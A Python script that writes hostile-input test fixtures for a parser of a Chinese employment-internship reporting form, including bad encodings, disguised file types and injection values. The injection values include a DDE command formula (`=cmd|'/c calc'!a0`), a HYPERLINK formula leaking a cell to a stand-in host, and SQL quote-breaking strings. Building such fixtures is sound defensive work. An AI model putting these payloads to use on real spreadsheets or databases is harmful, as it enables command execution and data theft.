#!/usr/bin/python3
"""Makes the hostile-input fixtures in fixtures/hostile/: files a district
clerk (or an attacker) might send that must each end in one clean finding.
tests/test_hostile.c says what each must give. The big ones (a row of a
million columns, a 100 MB cell, a 250-byte file name) are made by the tests
at run time instead. Run from the repository root with /usr/bin/python3;
the files are committed, so this only needs running when a fixture changes.
Inputs that crashed a fuzz target live in fixtures/hostile/fuzz/ as found."""
import io
import os
import zipfile

OUT = "fixtures/hostile"

NUMBER_ROW = [""] + [str(i) for i in range(1, 15)]
OK = ["52", "3", "640", "45", "60", "48", "40", "30", "20", "12", "6", "2", "150", "35.5"]


def csv_line(cells):
    out = []
    for c in cells:
        if any(ch in c for ch in ',"\r\n'):
            c = '"' + c.replace('"', '""') + '"'
        out.append(c)
    return ",".join(out)


def form_lines(unit_rows, unit_label="填报单位：历下区人力资源和社会保障局", period="统计期：2023年9月"):
    """The official form, one line per list entry (line 6 is the first
    unit row, line 7 the blank row, line 8 填报单位)."""
    lines = [["就业见习岗位募集计划工作情况汇总表"] + [""] * 14,
             [period] + [""] * 13 + ["单位：个、人、万元"],
             ["项目", "本期末实有见习基地总数", "本期新增见习基地数量", "本期末实有见习岗位总数",
              "本期新增见习岗位数量", "本期计划组织见习人数", "本期实际到岗人数", "", "本期完成见习人数",
              "", "", "", "本期非正常结束见习人数", "本期末实有在岗见习人数",
              "本年累计各级财政实际拨付的见习补贴资金数"],
             [""] * 7 + ["其中：离校2年内未就业高校毕业生人数", "", "被见习基地留用人数",
                         "其中：离校2年内未就业高校毕业生人数", "其他方式就业人数", "", "", ""],
             NUMBER_ROW]
    lines += unit_rows
    lines.append([""] * 15)
    lines.append([unit_label] + [""] * 14)
    lines.append(["填报时间：2023年10月7日"] + [""] * 14)
    lines.append(["填报人：王芳"] + [""] * 4 + ["联系电话：0531-66661234"] + [""] * 9)
    return [csv_line(l) for l in lines]


def put(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def text(lines, encoding="utf-8", newline="\n"):
    return (newline.join(lines) + newline).encode(encoding)


def main():
    os.makedirs(OUT, exist_ok=True)
    good = form_lines([["历下区"] + OK])

    # a quote opened in the first cell of line 6 and never closed: libcsv
    # would swallow the rest of the file into one field
    lines = list(good)
    lines[5] = '"历下区,' + ",".join(OK)
    put("unterminated_quote_370102_2023-09.csv", text(lines))

    # a NUL byte inside line 6
    lines = [l.encode() for l in good]
    lines[5] = lines[5].replace(b"640", b"6\x0040")
    put("nul_byte_370102_2023-09.csv", b"\n".join(lines) + b"\n")

    # UTF-8 throughout, but line 9 holds a broken sequence (C3 28) and a
    # lone continuation byte: neither UTF-8 nor GB18030
    lines = [l.encode() for l in good]
    lines[8] = lines[8].replace("填报时间".encode(), "填报".encode() + b"\xc3\x28\x80" + "时间".encode())
    put("bad_utf8_middle_370102_2023-09.csv", b"\n".join(lines) + b"\n")

    # GB18030 with CRLF as Excel saves it, but line 7 holds 0xFF, which no
    # GB18030 sequence contains
    lines = [l.encode("gb18030") for l in good]
    lines[6] = b"\xff" + lines[6]
    put("bad_gb18030_370102_2023-09.csv", b"\r\n".join(lines) + b"\r\n")

    # GB18030 whose last byte is the lead byte of a character cut off
    put("gb18030_cut_370102_2023-09.csv", text(good, "gb18030", "\r\n") + b"\x81")

    # UTF-16 with a BOM and an odd number of bytes: the last character is cut
    put("utf16_odd_370102_2023-09.csv", b"\xff\xfe" + text(good, "utf-16-le") + b"\x41")

    # flat layout whose district cells start like spreadsheet formulas; the
    # file name names no district, so each row is an S3 naming the text
    flat = [["district", "period"] + [str(i) for i in range(1, 15)]]
    for d in ["=1+2", "+8613800000000", "-2+3", "@SUM(A1:A9)",
              '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")']:
        flat.append([d, "2023-09"] + OK)
    put("formula_district_2023-09.csv", text([csv_line(l) for l in flat]))

    # form layout: unit names starting like formulas (text, accepted) and a
    # 填报单位 that is a formula (S3)
    units = [["=SUM(B6:B9)", "20", "1", "200", "10", "30", "20", "15", "10", "6", "4", "2", "1", "60", "10.5"],
             ["+历下区本级", "10", "2", "100", "15", "20", "18", "10", "8", "5", "3", "2", "0", "30", "5.25"],
             ["-街道", "10", "0", "100", "10", "5", "5", "5", "5", "3", "2", "1", "0", "20", "5"],
             ["@合计", "12", "0", "240", "10", "5", "5", "5", "5", "3", "2", "1", "0", "60", "5"]]
    put("formula_units_370102_2023-09.csv", text(form_lines(units)))
    put("formula_unit_label_2023-09.csv",
        text(form_lines([["历下区"] + OK], unit_label="填报单位：=cmd|'/c calc'!a0")))

    # 填报单位 carrying SQL quote characters; no district in the file name
    put("sql_quote_2023-09.csv", text(form_lines([["本级"] + OK], unit_label="填报单位：某区';--")))
    put("sql_dquote_2023-09.csv",
        text(form_lines([["本级"] + OK], unit_label='填报单位：某区";--drop')))

    # workbook names on files that are something else
    put("pdf_370102_2023-09.xlsx",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
    put("png_370102_2023-09.xlsx",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
        b"\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
        b"\x00\x00IEND\xaeB`\x82")
    put("ole2_370102_2023-09.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)

    # a real zip holding no workbook
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", "这不是工作簿\n")
        z.writestr("data/form.csv", "\n".join(good) + "\n")
    put("zip_not_workbook_370102_2023-09.xlsx", buf.getvalue())


if __name__ == "__main__":
    main()
